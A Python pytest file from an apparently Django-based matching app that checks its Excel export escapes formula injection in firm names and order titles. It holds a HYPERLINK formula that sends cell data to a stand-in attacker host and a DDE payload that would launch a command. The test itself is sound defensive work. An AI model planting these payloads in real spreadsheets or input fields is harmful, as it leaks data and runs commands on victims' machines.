"""A match run's workbook (finding 8): user text stays text."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from clusterlink.directory.models import Enterprise
from clusterlink.market.models import Demand
from clusterlink.matching.models import MatchRun
from clusterlink.matching.services import match_run_execute, match_run_start
from tests.matching.factories import matching_world

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def test_a_firm_or_order_named_like_a_formula_is_exported_as_text(
    django_capture_on_commit_callbacks: Any,
) -> None:
    # given a factory named like a formula, and an order titled like one
    world = matching_world()
    Enterprise.objects.filter(pk=world.dear.pk).update(legal_name=LINK, name_en=LINK)
    Demand.objects.filter(pk=world.big.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    with django_capture_on_commit_callbacks(execute=False):
        run = match_run_start(
            operator=world.operator,
            viewer=world.viewer(world.operator),
            scope=MatchRun.Scope.CLUSTER,
            cluster=world.cluster,
            time_limit_s=5,
        )
    match_run_execute(run_id=run.pk)
    client = Client()
    client.force_login(world.operator)
    # when the operator exports the run
    response = client.get(f"/en/matching/runs/{run.pk}/export.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    # then every cell holding them is a text cell that starts with an apostrophe
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "SUM(" in cell.value)
    ]
    assert sorted((cell.parent.title, cell.column_letter, cell.value) for cell in cells) == [
        ("Placements", "A", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("Placements", "A", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("Placements", "C", "'" + LINK),
        ("Placements by factory", "A", "'" + LINK),
        ("Placements by factory", "D", "'@SUM(1+1)*cmd|' /C calc'!A0 (100)"),
        ("Placements by factory", "D", "'@SUM(1+1)*cmd|' /C calc'!A0 (300); BSCI 跑鞋 300 (300)"),
        ("Utilisation", "A", "'" + LINK),
    ]
    assert {cell.data_type for cell in cells} == {"s"}
